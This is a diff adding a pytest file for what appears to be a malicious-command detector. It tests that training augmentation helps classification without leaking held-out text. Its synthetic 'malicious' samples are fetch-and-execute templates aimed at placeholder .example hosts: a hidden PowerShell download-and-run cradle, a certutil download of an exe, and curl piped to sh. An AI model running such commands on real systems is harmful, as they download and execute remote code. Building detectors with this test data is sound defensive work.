@@ -1,0 +1,105 @@
+"""Augmentation: copies that teach the threat, not the change."""
+
+import numpy as np
+import pytest
+
+from buckler.attacks import Attacker, attacks_on, get_attacks, get_augmentations
+from buckler.dataset import Dataset
+from buckler.dataset.splits import apart_from
+from buckler.errors import SettingsError
+from buckler.tasks import get_task
+from buckler.training.augmentation import augment
+from buckler.training.cross_validation import StudentSpec, assign_folds
+from buckler.training.fit import fit_student
+from tests.support.made_up import made_up_events
+
+MEDIA = ("url", "command-line", "message", "html", "text", "row")
+_PROGRAMS = ("git pull", "npm run build", "docker ps -a", "ls -la /var/log", "make -j4 install")
+_THREATS = (
+    "powershell -nop -w hidden -c iex(new-object net.webclient).downloadstring('{}')",
+    "certutil -urlcache -split -f {} C:\\Users\\Public\\a.exe",
+    "curl -s {} | sh",
+)
+
+
+def command_lines(n: int) -> Dataset:
+    rng = np.random.default_rng(3)
+    labels = [("benign", "malicious")[i % 2] for i in range(n)]
+    texts = [
+        str(rng.choice(_THREATS)).format(f"http://h{rng.integers(1000)}.example/p{i}")
+        if label == "malicious"
+        else f"{rng.choice(_PROGRAMS)} --target t{rng.integers(1000)} --name n{i}"
+        for i, label in enumerate(labels)
+    ]
+    task = get_task("command-line")
+    return Dataset.from_texts([text.encode() for text in texts], task, labels=labels)
+
+
+EVENTS = {
+    "url": lambda: made_up_events(1200, np.random.default_rng(2)),
+    "command-line": lambda: command_lines(1200),
+}
+
+
+@pytest.fixture(scope="module", params=sorted(EVENTS))
+def trained(request):
+    """Held-out events, and students that learned all augmentations and none."""
+    events = EVENTS[request.param]()
+    training, held_out = events.take(np.arange(0, 900)), events.take(np.arange(900, 1200))
+    spec = StudentSpec(settings={"table_bits": 14}, folds=3)
+    changes = get_augmentations(["all"], events.task.medium)
+    copies = augment(training, changes, 1.0, 0)
+    students = [fit_student(training, spec, additional=extra) for extra in (copies, None)]
+    return held_out, students, changes
+
+
+def test_an_ordinary_event_changed_in_the_same_way_is_no_detection(trained):
+    held_out, (augmented, plain), changes = trained
+    ordinary = held_out.take(np.flatnonzero(~held_out.is_positive))
+    texts = [text.decode() for text in ordinary.raw_texts]
+    for change in changes:
+        attacker = Attacker(np.random.default_rng(1), texts)
+        changed = ordinary.with_raw_texts([change(text, attacker).encode() for text in texts])
+        rates = [
+            float((one.student.predict_logits(changed.texts)[:, 0] > 0).mean())
+            for one in (augmented, plain)
+        ]
+        assert rates[0] <= rates[1] + 0.03, change.name
+
+
+@pytest.mark.parametrize("medium", MEDIA)
+def test_no_augmentation_borrows_the_text_of_a_benign_event_whole(medium):
+    """Each attack that hides an event among benign ones says so, and is refused."""
+    hiding = {a.name for a in attacks_on(medium) if a.hides}
+    assert not hiding & {a.name for a in get_augmentations(["all"], medium)}
+    for name in hiding:
+        with pytest.raises(SettingsError, match="hides an event among benign ones"):
+            get_augmentations([name], medium)
+    benign = "a rather long and quite ordinary sentence of some benign event"
+    if medium in ("command-line", "html", "text"):
+        attacker = Attacker(np.random.default_rng(0), [benign])
+        for change in get_augmentations(["all"], medium):
+            assert benign not in change("powershell -c start http://a.example/x", attacker)
+
+
+@pytest.mark.parametrize("with_groups", [True, False])
+def test_a_copy_never_helps_a_fold_that_holds_out_an_event_whose_text_it_borrows(with_groups):
+    events = command_lines(400)
+    if with_groups:
+        events = events.with_groups([f"g{i % 80}" for i in range(400)])
+    copies = augment(events, get_attacks(["benign-before", "benign-after"], "command-line"), 1.0, 0)
+    assert copies is not None
+    fold_of = assign_folds(events, 4, 0)
+    for fold in range(4):
+        held_out = events.take(np.flatnonzero(fold_of == fold))
+        kept = copies.take(apart_from(copies, held_out))
+        assert len(kept) > 20
+        learned = b"\n".join(kept.raw_texts)
+        assert not [text for text in held_out.raw_texts if text in learned]
+
+
+def test_all_classes_are_changed_alike():
+    events = command_lines(400)
+    copies = augment(events, get_augmentations(["random-case"], "command-line"), 0.5, 0)
+    assert copies is not None
+    assert abs(copies.is_positive.mean() - events.is_positive.mean()) < 0.1
